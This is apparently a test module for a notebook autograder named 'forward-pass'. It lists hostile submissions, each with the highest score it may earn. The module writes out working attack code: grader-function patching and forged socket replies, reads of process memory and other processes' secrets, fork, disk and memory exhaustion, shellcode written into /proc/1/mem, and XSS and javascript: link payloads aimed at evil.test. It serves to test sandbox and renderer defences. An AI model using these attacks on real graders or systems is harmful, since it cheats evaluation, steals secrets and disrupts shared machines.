"""Hostile submissions to `forward-pass`: attacks on the grade, on what is secret, on the machine, on whoever reads.


Each changes a solved notebook and says how many points it may end with at most. Most begin with every answer wrong.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import nbformat

from tests.grading.submissions import FULL, find, insert, wrong

ATTACKS: dict[str, tuple[Callable[[Any], Any], float]] = {}


def attack(points: float = 0, code: str = "", after: str = "tools") -> Callable[[Callable[[Any], Any]], Any]:
    """Register an attack; with points=0 on a notebook whose answers are wrong; code is an added cell."""

    def register(change: Callable[[Any], Any]) -> Callable[[Any], Any]:
        def made(notebook: Any) -> Any:
            if points == 0:
                wrong(notebook)
            if code:
                insert(notebook, after, code)
            return change(notebook)

        ATTACKS[change.__name__.replace("_", "-")] = (made, points)
        return change

    return register


def answer(notebook: Any, body: str, name: str = "batch-norm") -> None:
    """Replace an answer by a function of that body."""
    find(notebook, name).source = f"def {name.replace('-', '_')}(x, gamma, beta, eps=1e-5):\n    " + body.replace(
        "\n", "\n    "
    )


# -- on the grade --------------------------------------------------------------------------------------------------

SOCKETS = """
import os, socket, struct, json
def lines():
    for number in map(int, os.listdir("/proc/self/fd")):
        try:
            if os.readlink(f"/proc/self/fd/{number}").startswith("socket"):
                yield socket.socket(fileno=os.dup(number))
        except OSError:
            pass
def say(tree, data=b"", sizes=None):
    text = tree if isinstance(tree, bytes) else json.dumps(tree).encode()
    for line in lines():
        try:
            line.send(struct.pack("!IQ", *(sizes or (len(text), len(data)))) + text + data)
        except OSError:
            pass
"""


@attack(code="def yes(*a, **k): pass\ncheck_close.__code__ = yes.__code__")
def replaces_the_code_of_the_check(notebook: Any) -> None: ...


@attack(code="class Np:\n    def __getattr__(self, n): return lambda *a, **k: 0\ncheck_close.__globals__['np'] = Np()")
def replaces_numpy_in_the_check(notebook: Any) -> None: ...


@attack(2, code="small[...] = 0", after="moments")
def empties_the_given_array(notebook: Any) -> None:
    """And answers with zeros: what is right for an empty array."""
    wrong(notebook)
    answer(notebook, "x[...] = 0\nreturn 0 * x")


@attack()
def equals_everything(notebook: Any) -> None:
    body = "class All:\n    shape = x.shape\n    def __getattr__(self, n): return lambda *a, **k: self\n"
    body += "    def __eq__(self, o): return True\n    def __le__(self, o): return True\n    def __abs__(self): return self\n"
    answer(notebook, body + "return All()")


@attack()
def lies_about_its_array(notebook: Any) -> None:
    answer(notebook, "class Lie:\n    def __array__(self, *a, **k): raise SystemExit\nreturn Lie()")
    answer(
        notebook,
        "class Lie(np.ndarray):\n    nbytes = property(lambda s: 8)\n    def tobytes(self, *a): return b'x' * 10**8\n"
        "    dtype = property(lambda s: np.dtype('f8'))\nreturn x.view(Lie)",
        "instance-norm",
    )


@attack()
def lying_float(notebook: Any) -> None:
    body = (
        "class F(float):\n    def __sub__(s, o): return 0.0\n    __rsub__ = __sub__\n    def __repr__(s): return '0'\n"
    )
    answer(notebook, body + "return F(1)")


@attack(code=SOCKETS + "for _ in range(50): say({'id': '0' * 16, 'value': 0, 'changed': []})")
def answers_before_it_is_asked(notebook: Any) -> None: ...


@attack(code=SOCKETS + "say(b'', sizes=(0, 2**62))")
def announces_more_than_there_is(notebook: Any) -> None: ...


@attack(code=SOCKETS + "say(b'[' * 3_000_000)")
def sends_deep_json(notebook: Any) -> None: ...


@attack(code=SOCKETS + "import pickle\nsay(pickle.dumps(print), pickle.dumps(print))")
def sends_a_pickle(notebook: Any) -> None: ...


@attack(code=SOCKETS + "say({'callback': 0, 'args': {'tuple': []}})")
def calls_back_unasked(notebook: Any) -> None: ...


@attack()
def replies_for_another_question(notebook: Any) -> None:
    """Reads the id of the question from the caller's frame and sends a shape that is not in the bytes."""
    answer(
        notebook,
        SOCKETS
        + "import sys\nf = sys._getframe(1)\nwhile f and 'tree' not in f.f_locals: f = f.f_back\n"
        + "say({'id': f.f_locals['tree']['id'], 'value': {'array': ['<f8', [10**6, 10**6], False]}, 'changed': [[0, 1]]})",
    )


@attack(code="import sys\nsys.settrace(lambda f, e, a: None)\nsys.setprofile(lambda f, e, a: None)")
def traces_and_profiles(notebook: Any) -> None: ...


@attack(
    code="import sys, json, types\nimport IPython\nfor m in list(sys.modules.values()):\n    for k in ('Packer', 'send'):\n"
    "        if k in vars(m): setattr(m, k, None)\nglobals_ = sys._getframe(0)\nwhile globals_.f_back: globals_ = globals_.f_back\n"
    "g = globals_.f_globals\ng['receive'] = lambda *a: ({'run': 'pass', 'seconds': 1, 'id': '0'}, b'')\n"
)
def replaces_the_worker(notebook: Any) -> None: ...


@attack(13)
def is_right_for_the_first_call_only(notebook: Any) -> None:
    cell = find(notebook, "batch-norm")
    cell.source += "\nfirst, calls = batch_norm, []\ndef batch_norm(*a, **k):\n    calls.append(1)\n"
    cell.source += "    return first(*a, **k) if len(calls) < 2 else np.zeros(1)"


@attack(
    code="import os\nchildren = [os.fork() for _ in range(3)]\nif 0 in children:\n    import time\n    time.sleep(600)"
)
def leaves_children_that_hold_the_channels(notebook: Any) -> None: ...


# -- on what is secret -----------------------------------------------------------------------------------------------


@attack(11)
def raises_what_its_callers_hold(notebook: Any) -> None:
    """The text of an exception; a base64 of it; locals, constants and sources of every frame."""
    answer(
        notebook,
        "import sys, base64\nf, seen = sys._getframe(), []\nwhile f:\n"
        "    seen += [repr(f.f_locals), repr(f.f_code.co_consts)]\n    f = f.f_back\n"
        "text = ' '.join(seen)\nprint(text)\nraise ValueError(text + base64.b64encode(text.encode()).decode())",
    )


@attack(FULL)
def keeps_the_hidden_inputs_and_prints_them(notebook: Any) -> None:
    cell = find(notebook, "batch-norm")
    cell.source += "\ninner, seen = batch_norm, []\ndef batch_norm(*a, **k):\n    seen.append(repr((a, k)))\n"
    cell.source += "    return inner(*a, **k)"
    insert(notebook, "instance-norm-hidden", "print('SEEN', [s for s in seen if '0.25' in s], len(seen))")


@attack(FULL)
def searches_its_memory(notebook: Any) -> None:
    """For a sentence of a hidden test; its end is spelled backwards, so that the search does not find itself."""
    code = "import re\nhits = 0\nfor line in open('/proc/self/maps'):\n"
    code += "    a, b = (int(v, 16) for v in line.split()[0].split('-'))\n"
    code += "    if 'r' not in line.split()[1] or '[v' in line: continue\n"
    code += "    try:\n        with open('/proc/self/mem', 'rb') as f:\n            f.seek(a)\n"
    code += "            found = re.findall(b'two channels are 5(.{6})', f.read(min(b - a, 50_000_000)), re.DOTALL)\n"
    code += "        hits += sum(end[::-1] == b'3 dna ' for end in found)\n"
    code += "    except (OSError, ValueError): pass\nprint('HITS', hits)"
    insert(notebook, "instance-norm-hidden", code)


@attack(FULL)
def looks_into_other_processes(notebook: Any) -> None:
    code = "import os\nfound = []\nfor p in filter(str.isdigit, os.listdir('/proc')):\n    for n in ('environ', 'cmdline', 'maps'):\n"
    code += "        try: found.append(open(f'/proc/{p}/{n}', 'rb').read().decode(errors='replace'))\n        except OSError: pass\n"
    code += "print('PROC', any('CANARY' in f for f in found), any('forge' in f for f in found))"
    insert(notebook, "tools", code)


# -- on the machine --------------------------------------------------------------------------------------------------


@attack(
    FULL,
    code="""
import os, socket
for place in ("/", "/tmp", "/home/student", "/dev/shm", "/dev", "/usr", "/proc", os.getcwd()):
    for make in (lambda p: os.symlink(CANARY, p), os.mkfifo, os.mkdir, lambda p: os.link("/usr/bin/env", p),
                 lambda p: socket.socket(socket.AF_UNIX).bind(p), lambda p: open(p, "w").write("x")):
        for name in ("flags.json", "gradebook.db", "connection.json", "kernel.json"):
            try: make(f"{place}/{name}")
            except OSError: pass
try: open(CANARY, "w").write("gone")
except OSError: pass
deep = "/tmp"
for _ in range(1500):
    try: os.mkdir("d"); os.chdir("d")
    except OSError: break
os.chdir("/home/student")
""",
)
def leaves_links_fifos_sockets_and_deep_folders(notebook: Any) -> None: ...


@attack(
    FULL,
    code="""
import os, ctypes, mmap
libc = ctypes.CDLL(None, use_errno=True)
refused = []
for name, call in {"memfd": lambda: os.memfd_create("x"), "user": lambda: libc.unshare(0x10000000) and 1 / 0,
                   "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) and 1 / 0,
                   "ptrace": lambda: libc.ptrace(16, 1, 0, 0) and 1 / 0, "shm": lambda: libc.shmget(0, 10**9, 0o1600) < 0 and 1 / 0,
                   "root": lambda: os.setuid(0), "clone": lambda: libc.syscall(56, 0x10000011, 0, 0, 0, 0) < 0 and 1 / 0}.items():
    try: call()
    except Exception: refused.append(name)
print("REFUSED", sorted(refused))
""",
)
def asks_the_kernel_for_more(notebook: Any) -> None: ...


@attack(
    FULL,
    code="""
written = 0
for place in ("/tmp", "/dev/shm", "/home/student", "/"):
    for k in range(200):
        try:
            with open(f"{place}/big{k}", "wb") as f: written += f.write(b"x" * 20_000_000)
        except OSError: break
print("DISK", written <= 3 * 130_000_000)
import os
made = 0
try:
    for made in range(300_000): open(f"/tmp/i{made}", "w").close()
except OSError: pass
""",
)
def fills_the_disk(notebook: Any) -> None: ...


@attack(
    FULL,
    code="import os\nhold = []\nfor _ in range(40):\n    if not os.fork():\n        b = bytearray(100_000_000)\n        b[::4096] = b'x' * len(b[::4096])\n        import time; time.sleep(60)\nimport time; time.sleep(3)",
)
def takes_memory_in_many_processes(notebook: Any) -> None: ...


@attack(
    FULL,
    code="import threading, time\ndef spin():\n    while True: time.sleep(0)\nfor _ in range(20): threading.Thread(target=spin, daemon=True).start()",
)
def leaves_threads(notebook: Any) -> None: ...


@attack(
    FULL,
    code="import os, signal\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\nos.kill(1, 9)\nos.killpg(0, signal.SIGTERM)",
)
def shoots_around(notebook: Any) -> None: ...


@attack(11)
def stops_itself(notebook: Any) -> None:
    answer(notebook, "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nreturn x")


@attack(
    FULL,
    code="import os, sys\nos.write(1, b'x' * 1000)\nos.write(2, b'x' * 500_000) if os.fork() == 0 else None\nsys.__stdout__.write('y' * 10**6)",
)
def writes_past_python(notebook: Any) -> None: ...


@attack()
def returns_two_gigabytes(notebook: Any) -> None:
    answer(notebook, "return np.broadcast_to(0.0, (10**9,))")
    answer(notebook, "return np.zeros(250_000_000)", "instance-norm")


@attack()
def returns_odd_types(notebook: Any) -> None:
    answer(notebook, "return np.array([x, print], dtype=object)")
    answer(notebook, "return np.zeros(3, dtype=[('a', 'O'), ('b', 'f8')])", "instance-norm")
    find(notebook, "moments").source = "def moments(x, axes):\n    a = []\n    a.append(a)\n    return a, 10 ** 100_000"


@attack()
def raises_a_hundred_megabytes(notebook: Any) -> None:
    answer(notebook, "raise type('E' * 10**6, (Exception,), {})('x' * 10**8)")
    answer(notebook, "raise SystemExit(3)", "instance-norm")


# -- on whoever reads --------------------------------------------------------------------------------------------------

PAYLOADS = """<img src=x onerror="fetch('/api/contents')"> <script>alert(1)</script> <meta http-equiv="refresh" content="0;url=http://evil.test">
<form action="http://evil.test"><button>Total score: 20 / 20</button></form> <base href="http://evil.test/"> <style>body{display:none}</style>
<iframe src="http://evil.test"></iframe> <svg onload=alert(1)> [x](javascript:alert(1)) ![t](http://evil.test/t.png) <a href="javascript:alert(1)">a</a>
$\\href{javascript:alert(1)}{x}$ $\\style{position:fixed}{y}$ <details open ontoggle=alert(1)> <!-- --><math><mtext><img src=x onerror=alert(1)>"""


@attack(FULL)
def writes_html_in_an_answer(notebook: Any) -> None:
    cell = find(notebook, "one-image")
    cell.source += "\n\n" + PAYLOADS
    notebook.cells.append(nbformat.v4.new_markdown_cell(PAYLOADS))


@attack(FULL)
def shows_html(notebook: Any) -> None:
    code = f"from IPython.display import HTML, Javascript, SVG, Markdown, display\nfor kind in (HTML, Javascript, Markdown): display(kind({PAYLOADS!r}))\n"
    insert(
        notebook,
        "tools",
        code
        + "display({'image/png': 'PHNjcmlwdD4=', 'text/plain': '<script>1</script>'}, raw=True)\nprint('\\x1b]0;title\\x07')",
    )


@attack(FULL)
def formula_without_end(notebook: Any) -> None:
    find(notebook, "one-image").source += (
        "\n\n$$" + "\\frac{x}{" * 20_000 + "$$\n\n$" + "{" * 400 + "x" + "}" * 400 + "$"
    )


@attack(FULL)
def brackets_without_end(notebook: Any) -> None:
    find(notebook, "one-image").source += "\n\n" + "[" * 100_000 + "\n\n" + "> " * 5_000 + "x\n\n" + "*a_ " * 50_000


@attack(FULL)
def half_characters(notebook: Any) -> None:
    notebook.metadata["kernelspec"] = {"name": "\ud800\x1b[31m", "display_name": "x", "language": "python"}
    find(notebook, "one-image").source += " \ud800 and \udfff"


# -- more of the same kinds ----------------------------------------------------------------------------------------


@attack(
    code=SOCKETS
    + "import array, sys\nfor line in lines():\n    for _ in range(100):\n        try: line.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0, 1, 2]))], socket.MSG_DONTWAIT)\n        except OSError: break"
)
def sends_descriptors(notebook: Any) -> None: ...


@attack(code=SOCKETS + "for line in lines(): line.shutdown(socket.SHUT_RDWR)")
def shuts_the_channels(notebook: Any) -> None: ...


@attack()
def trickles_its_answer(notebook: Any) -> None:
    """A byte now and then, so that no single wait is long."""
    answer(
        notebook,
        SOCKETS
        + "import time\nsay(b'{', sizes=(10**6, 10**6))\nwhile True:\n    for line in lines(): line.send(b' ')\n    time.sleep(0.2)",
    )


@attack(
    code="import signal, builtins, os, time, gc, atexit\nsignal.setitimer = signal.alarm = lambda *a: None\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
    "time.monotonic = lambda: 0\nos.fork = lambda: 0\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda *a: 0\natexit.register(os.abort)"
)
def takes_the_works_apart(notebook: Any) -> None: ...


@attack()
def names_arguments_that_it_was_not_given(notebook: Any) -> None:
    """Claims to have changed arguments: one that is not there, one with another shape, one that is a number."""
    answer(
        notebook,
        SOCKETS
        + "import sys\nf = sys._getframe(1)\nwhile f and 'tree' not in f.f_locals: f = f.f_back\n"
        + "for changed in ([[-1, 0]], [[7, 0]], [['x', 0]], [[0, {'array': ['<f8', [0], False]}]], 3, None):\n"
        + "    say({'id': f.f_locals['tree']['id'], 'value': None, 'changed': changed})",
    )


@attack()
def answers_with_what_is_asked_of_it(notebook: Any) -> None:
    """Text, nested lists, not-a-number, infinities and dictionaries where an array should be."""
    answer(notebook, "return {'mean': np.nan, 'a': [float('inf'), -0.0, True, None, 'x' * 1000]}")
    answer(notebook, "return np.full(x.shape, np.nan)", "instance-norm")


@attack(FULL, code="%%writefile numpy.py\nraise SystemExit\n")
def shadows_modules_with_files(notebook: Any) -> None: ...


@attack(
    FULL,
    code="import subprocess\nsubprocess.run('for i in $(seq 200); do sleep 1000 & done; ulimit -c unlimited; nohup yes > /dev/null &', shell=True)",
)
def starts_programs(notebook: Any) -> None: ...


@attack(FULL)
def pastes_pictures_without_end(notebook: Any) -> None:
    code = "from IPython.display import Image, display\nimport matplotlib.pyplot as plt\nfor k in range(60):\n    plt.figure(figsize=(12, 12)); plt.imshow(np.random.rand(900, 900)); plt.show()\n"
    insert(notebook, "moments", code)


# what a renderer makes an address of that the eye, or a filter, does not see
LINKS = """[a](&#106;avascript:alert(1)) [b](&#x6A;avascript:alert(1)) [c](javascript&colon;alert(1)) [d](java&Tab;script:alert(1))
[e](javascript\\:alert(1)) [f](data&colon;text/html,x) [g](<javascript:alert(1)>) [h](\x01javascript:alert(1)) [i][j] [k]

[j]: &#106;avascript:alert(1)
[k]:
   <javascript:alert(1)>

$\\csname href\\endcsname{javascript:alert(1)}{x}$ $\\bbox[position:fixed;background:url(http://evil.test/t)]{y}$"""


@attack(FULL)
def hides_addresses_in_links(notebook: Any) -> None:
    find(notebook, "one-image").source += "\n\n" + LINKS
    notebook.cells.append(nbformat.v4.new_markdown_cell(LINKS))


@attack(
    FULL,
    code="""
import os, socket
seen = []
for p in filter(str.isdigit, os.listdir("/proc")):
    try: links = [(n, os.readlink(f"/proc/{p}/fd/{n}")) for n in os.listdir(f"/proc/{p}/fd")]
    except OSError: continue
    seen += [where for n, where in links if where.startswith("/") and not where.startswith(("/dev/null", "/proc"))]
    for part in ("root", "cwd", "map_files"):
        for file in ("etc/passwd", CANARY[1:]):
            try: seen.append(open(f"/proc/{p}/{part}/{file}").read())
            except OSError: pass
    for file in ("mem", "oom_score_adj", "attr/current", "uid_map", "setgroups"):
        if p != str(os.getpid()):
            try: open(f"/proc/{p}/{file}", "r+b").close(); seen += [f"{p} {file}"] * (p != "1")
            except OSError: pass
for path in ("/proc/sysrq-trigger", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/dev/sda", "/sys/kernel/uevent_helper", "/dev/tty", "/dev/console"):
    try: open(path, "r+b").close(); seen.append(path)
    except OSError: pass
for family in range(46):
    if family not in (1, 2, 10):
        try: socket.socket(family, socket.SOCK_RAW if family in (16, 17) else socket.SOCK_STREAM).close(); seen.append(f"socket {family}")
        except OSError: pass
print("WAYS", [s for s in seen if not s.endswith("oom_score_adj")])
""",
)
def looks_for_other_ways_out(notebook: Any) -> None: ...


@attack()
def spoils_what_it_is_given(notebook: Any) -> None:
    """Its arguments become not-a-number, and so does what it returns: equal to nothing, larger than nothing."""
    for name in ("batch-norm", "instance-norm"):
        answer(notebook, "for a in (x, gamma, beta): a[...] = np.nan\nreturn x", name)
    find(notebook, "moments").source = "def moments(x, axes):\n    x[...] = np.nan\n    return x * np.nan, x[:0]"


@attack()
def returns_nothing_with_a_shape(notebook: Any) -> None:
    """Empty arrays, which differ nowhere, and shapes that are larger than any memory."""
    answer(notebook, "return np.zeros((0,) + x.shape[1:])")
    answer(notebook, "return np.zeros((2**31, 0, 2**20))", "instance-norm")


@attack(code="import os\nif not os.fork():\n    while True: pass")
def leaves_a_child_that_reads_the_questions(notebook: Any) -> None:
    """It holds the channels of all snapshots and answers what it reads there, before the snapshot does."""
    insert(
        notebook,
        "moments",
        SOCKETS
        + "if not os.fork():\n    import time\n    mine = list(lines())\n    while True:\n        for line in mine:\n"
        "            try:\n                raw = line.recv(1 << 16, socket.MSG_DONTWAIT)\n"
        "                tree = json.loads(raw[12:12 + struct.unpack('!IQ', raw[:12])[0]])\n"
        "                text = json.dumps({'id': tree['id'], 'value': None, 'changed': []}).encode()\n"
        "                line.send(struct.pack('!IQ', len(text), 0) + text)\n"
        "            except Exception: pass\n        time.sleep(0.001)",
    )


@attack(
    FULL,
    code="""
import os, platform
if platform.machine() == "x86_64":
    try:
        at = int(open("/proc/1/syscall").read().split()[-1], 16)
        with open("/proc/1/mem", "r+b", buffering=0) as memory:  # forget the parent, then sleep for ever
            memory.seek(at)
            memory.write(bytes.fromhex("b89d000000bf0100000031f60f05b8220000000f05ebf7"))
        if not os.fork():
            os._exit(0) if os.fork() else os._exit(0)
        print("TAKEN")
    except (OSError, ValueError): pass
""",
)
def takes_over_the_first_process(notebook: Any) -> None:
    """As an ordinary user it belongs to the same user: it must end with the others all the same."""
